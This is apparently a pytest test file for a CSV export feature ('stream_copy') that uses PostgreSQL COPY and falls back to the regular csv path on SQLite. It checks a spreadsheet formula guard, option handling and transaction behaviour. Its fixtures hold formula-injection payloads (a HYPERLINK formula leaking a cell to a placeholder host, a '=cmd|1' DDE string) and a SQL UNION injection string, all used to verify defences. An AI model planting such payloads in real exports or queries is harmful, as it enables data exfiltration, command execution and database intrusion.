"""``tgstream.stream_copy``: PostgreSQL's COPY CSV in the request's
transaction, and the regular csv path on other databases (SQLite)."""
from __future__ import annotations

import csv
import datetime
import decimal

import pytest
import webtest
import zope.sqlalchemy
from pyramid.exceptions import ConfigurationError
from sqlalchemy import (
    Boolean,
    Column,
    DateTime,
    Float,
    Integer,
    MetaData,
    Numeric,
    String,
    Table,
    bindparam,
    insert,
    select,
    text,
)

import tgstream
from tests.dbapp import Base, User, build_db_app
from tgstream import StreamEncodeError

metadata = MetaData()
orders = Table(
    'orders', metadata,
    Column('id', Integer, primary_key=True),
    Column('customer', String),
    Column('total', Numeric(10, 2)),
    Column('created_at', DateTime),
    Column('paid', Boolean),
    Column('ratio', Float),
)

ROWS = [
    {'id': 1, 'customer': 'alice', 'total': decimal.Decimal('-5.00'),
     'created_at': datetime.datetime(2024, 1, 2, 3, 4, 5), 'paid': True, 'ratio': 0.1},
    {'id': 2, 'customer': '', 'total': None, 'created_at': None, 'paid': None, 'ratio': None},
    {'id': 3, 'customer': '=HYPERLINK("http://x/?"&A1,"y")', 'total': decimal.Decimal('1.50'),
     'created_at': datetime.datetime(2024, 1, 2, 3, 4, 5, 6), 'paid': False, 'ratio': 1e300},
    {'id': 4, 'customer': 'x;=cmd|1', 'total': decimal.Decimal('0'), 'created_at': None,
     'paid': None, 'ratio': -0.5},
]

STATEMENT = select(orders).order_by(orders.c.id)


def fill(engine, rows=ROWS):
    metadata.create_all(engine)
    with engine.begin() as conn:
        conn.execute(insert(orders), rows)


def copy_app(engine, statement=STATEMENT, settings=None, view=None, **view_options):
    def export(request):
        return tgstream.stream_copy(request.dbsession, statement)

    def setup(config):
        config.add_route('export', '/export')
        config.add_view(view or export, route_name='export', renderer='csv', stream=True,
                        **view_options)

    return webtest.TestApp(build_db_app(engine, setup, settings))


# -- PostgreSQL: the server's CSV ----------------------------------------------

PG_GUARDED = (
    'id,customer,total,created_at,paid,ratio\n'
    '1,"alice",-5.00,2024-01-02 03:04:05,t,0.1\n'
    '2,"",,,,\n'
    '3,"\'=HYPERLINK(""http://x/?""&A1,""y"")",1.50,2024-01-02 03:04:05.000006,f,1e+300\n'
    '4,"x;\'=cmd|1",0.00,,,-0.5\n'
)
PG_UNGUARDED = (
    'id,customer,total,created_at,paid,ratio\n'
    '1,alice,-5.00,2024-01-02 03:04:05,t,0.1\n'
    '2,"",,,,\n'
    '3,"=HYPERLINK(""http://x/?""&A1,""y"")",1.50,2024-01-02 03:04:05.000006,f,1e+300\n'
    '4,x;=cmd|1,0.00,,,-0.5\n'
)


@pytest.mark.postgresql
def test_postgresql_writes_its_csv_with_the_guard(pg_engine):
    fill(pg_engine)
    response = copy_app(pg_engine, stream_filename='orders.csv').get('/export')
    assert response.content_type == 'text/csv'
    assert response.headers['Content-Disposition'] == 'attachment; filename="orders.csv"'
    assert response.text == PG_GUARDED


@pytest.mark.postgresql
@pytest.mark.parametrize('off', [
    {'stream_options': {'formula_guard': False}},
    {'settings': {'tgstream.csv.formula_guard': 'false'}},
])
def test_the_guard_can_be_turned_off(pg_engine, off):
    fill(pg_engine)
    settings = off.get('settings')
    options = {k: v for k, v in off.items() if k != 'settings'}
    assert copy_app(pg_engine, settings=settings, **options).get('/export').text == PG_UNGUARDED


@pytest.mark.postgresql
def test_stream_options_map_onto_copy(pg_engine):
    fill(pg_engine)
    app = copy_app(pg_engine, stream_options={
        'delimiter': ';', 'quoting': csv.QUOTE_ALL, 'columns': ['customer', 'id'],
        'bom': True, 'formula_guard': False})
    assert app.get('/export').body.decode('utf-8') == (
        '\ufeff"customer";"id"\n'
        '"alice";"1"\n'
        '"";"2"\n'
        '"=HYPERLINK(""http://x/?""&A1,""y"")";"3"\n'
        '"x;=cmd|1";"4"\n')
    app = copy_app(pg_engine, stream_options={'header': False, 'columns': ['id']})
    assert app.get('/export').text == '1\n2\n3\n4\n'


@pytest.mark.postgresql
def test_a_guarded_tab_separated_export_takes_the_regular_path(pg_engine):
    """With a tab delimiter the guard's row rule looks past empty leading
    cells (csvsafe.guard_blank_row_start), which COPY's SQL cannot: the
    export is the csv renderer's regular one, byte for byte."""
    fill(pg_engine)

    def regular(request):
        return tgstream.stream_query(request.dbsession, STATEMENT)

    options = {'stream_options': {'delimiter': '\t'}}
    copied = copy_app(pg_engine, **options).get('/export')
    assert copied.body == copy_app(pg_engine, view=regular, **options).get('/export').body
    assert copied.text.splitlines()[1].startswith('1\talice\t')


@pytest.mark.postgresql
def test_header_names_are_guarded_and_never_truncated(pg_engine):
    fill(pg_engine)
    long_name = 'the customer who placed the order, as written on the invoice of it'
    assert len(long_name) > 63  # PostgreSQL's identifiers stop at 63 bytes
    statement = select(orders.c.id.label('=id'), orders.c.customer.label(long_name)).where(
        orders.c.id == 1)
    assert copy_app(pg_engine, statement).get('/export').text == (
        '\'=id,"%s"\n1,"alice"\n' % long_name)


@pytest.mark.postgresql
def test_the_copy_runs_in_the_request_transaction(pg_engine):
    """Rows the view wrote (flushed, not committed) are in the export; what
    the view wrote is committed after the stream, or rolled back with it."""
    fill(pg_engine)

    def view(request):
        request.dbsession.execute(insert(orders).values(id=5, customer='new'))
        zope.sqlalchemy.mark_changed(request.dbsession)
        return tgstream.stream_copy(request.dbsession, select(orders.c.id, orders.c.customer)
                                    .where(orders.c.id > 3).order_by(orders.c.id))

    assert copy_app(pg_engine, view=view).get('/export').text == (
        'id,customer\n4,"x;\'=cmd|1"\n5,"new"\n')
    with pg_engine.connect() as conn:
        assert conn.scalar(text('SELECT customer FROM orders WHERE id = 5')) == 'new'


@pytest.mark.postgresql
def test_same_snapshot_as_the_view(pg_engine):
    """REPEATABLE READ: a row committed by another connection after the
    view's first query is not in the export."""
    fill(pg_engine)

    def view(request):
        session = request.dbsession
        session.connection(execution_options={'isolation_level': 'REPEATABLE READ'})
        count = session.scalar(text('SELECT count(*) FROM orders'))
        with pg_engine.begin() as other:
            other.execute(insert(orders).values(id=9, customer='late'))
        request.response.headers['X-Count'] = str(count)
        return tgstream.stream_copy(session, select(orders.c.id).order_by(orders.c.id))

    response = copy_app(pg_engine, view=view).get('/export')
    assert response.headers['X-Count'] == '4'
    assert response.text == 'id\n1\n2\n3\n4\n'


@pytest.mark.postgresql
def test_bound_parameters_are_quoted_by_psycopg(pg_engine):
    hostile = "x' UNION SELECT 1, current_user --"
    fill(pg_engine, ROWS + [dict(ROWS[1], id=7, customer=hostile)])
    statement = (select(orders.c.id, orders.c.customer)
                 .where(orders.c.customer.in_([hostile, 'alice', "o'brien"]))
                 .where(orders.c.id > bindparam('low', 0))
                 .where(orders.c.customer.like('%')).order_by(orders.c.id))
    text_ = copy_app(pg_engine, statement).get('/export').text
    assert text_ == 'id,customer\n1,"alice"\n7,"%s"\n' % hostile


def test_duplicate_column_names(any_engine):
    fill(any_engine)
    statement = select(orders.c.id, orders.c.id, orders.c.customer).where(orders.c.id == 1)
    # SQLAlchemy's names for the result's columns, as on the regular path
    assert copy_app(any_engine, statement).get('/export').text.splitlines()[0] == 'id,id__1,customer'


@pytest.mark.postgresql
def test_jit_and_parallel_plans_are_off_for_the_guarded_copy_only(pg_engine):
    from tgstream.copy import _without_jit

    with pg_engine.connect() as conn:
        cursor = conn.connection.driver_connection.cursor()
        cursor.execute("SET LOCAL jit = on")
        cursor.execute("SET LOCAL max_parallel_workers_per_gather = 3")
        query = "SELECT current_setting('jit'), current_setting('max_parallel_workers_per_gather')"
        with _without_jit(cursor, guard=True):
            assert cursor.execute(query).fetchone() == ('off', '0')
        assert cursor.execute(query).fetchone() == ('on', '3')


# -- every database --------------------------------------------------------------


def test_sqlite_streams_the_regular_csv_path(sqlite_engine):
    fill(sqlite_engine)

    def regular(request):
        return tgstream.stream_query(request.dbsession, STATEMENT)

    copied = copy_app(sqlite_engine, stream_filename='orders.csv').get('/export')
    expected = copy_app(sqlite_engine, view=regular).get('/export')
    assert copied.body == expected.body
    assert copied.headers['Content-Disposition'] == 'attachment; filename="orders.csv"'
    assert copied.text.splitlines()[3] == (
        '3,"\'=HYPERLINK(""http://x/?""&A1,""y"")",1.50,2024-01-02 03:04:05.000006,False,1e+300')


@pytest.mark.parametrize('options, named', [
    ({'escapechar': '\\'}, 'escapechar'),
    ({'lineterminator': '\r\n'}, 'lineterminator'),
    ({'quoting': csv.QUOTE_NONNUMERIC}, 'quoting'),
    ({'delimiter': '\u00a7'}, 'delimiter'),
    ({'skipinitialspace': True}, 'skipinitialspace'),
])
def test_options_copy_cannot_honour_are_refused(any_engine, options, named):
    """On every database: an app developed on SQLite fails the same way."""
    fill(any_engine)
    app = copy_app(any_engine, stream_options=dict(options, formula_guard=False))
    with pytest.raises(ConfigurationError, match=r'view .*export.*%s' % named):
        app.get('/export')


def test_entities_are_refused(sqlite_engine):
    Base.metadata.create_all(sqlite_engine)
    with pytest.raises(TypeError, match=r'whole ORM entities.*User'):
        tgstream.stream_copy(None, select(User))
    # their columns are fine
    tgstream.stream_copy(None, select(User.id, User.name))


def test_other_renderers_are_refused(any_engine):
    fill(any_engine)

    def setup(config):
        config.add_route('export', '/export')
        config.add_view(lambda request: tgstream.stream_copy(request.dbsession, STATEMENT),
                        route_name='export', renderer='json', stream=True)

    app = webtest.TestApp(build_db_app(any_engine, setup))
    with pytest.raises(TypeError, match="renderer='csv'"):
        app.get('/export')


def test_missing_columns_are_an_error_before_the_first_byte(any_engine):
    fill(any_engine)
    app = copy_app(any_engine, stream_options={'columns': ['id', 'nope']})
    # PostgreSQL: the columns are known before the COPY; SQLite: the csv
    # renderer's own error for the first row (logged with the column)
    expected = ValueError if any_engine.dialect.name == 'postgresql' else StreamEncodeError
    with pytest.raises(expected, match='nope' if expected is ValueError else 'item 0'):
        app.get('/export')


def test_text_statements_and_percent_signs(any_engine):
    fill(any_engine)
    statement = text(
        "SELECT id, customer || ' 100%' AS label FROM orders "
        "WHERE customer LIKE 'a%' AND id < :top ORDER BY id").bindparams(top=10)
    lines = copy_app(any_engine, statement).get('/export').text.splitlines()
    assert lines[0] == 'id,label'
    assert lines[1] in ('1,"alice 100%"', '1,alice 100%')  # PostgreSQL quotes text cells


def test_a_scoped_session(any_engine):
    """A TurboGears-style scoped session: the thread's session is used."""
    from sqlalchemy.orm import scoped_session, sessionmaker

    fill(any_engine)
    scoped = scoped_session(sessionmaker(bind=any_engine))
    try:
        def view(request):
            return tgstream.stream_copy(scoped, select(orders.c.id).where(orders.c.id < 3)
                                        .order_by(orders.c.id))

        text_ = copy_app(any_engine, view=view, stream_options={'header': False}).get(
            '/export').text
        assert text_.split() == ['1', '2']
    finally:
        scoped.remove()
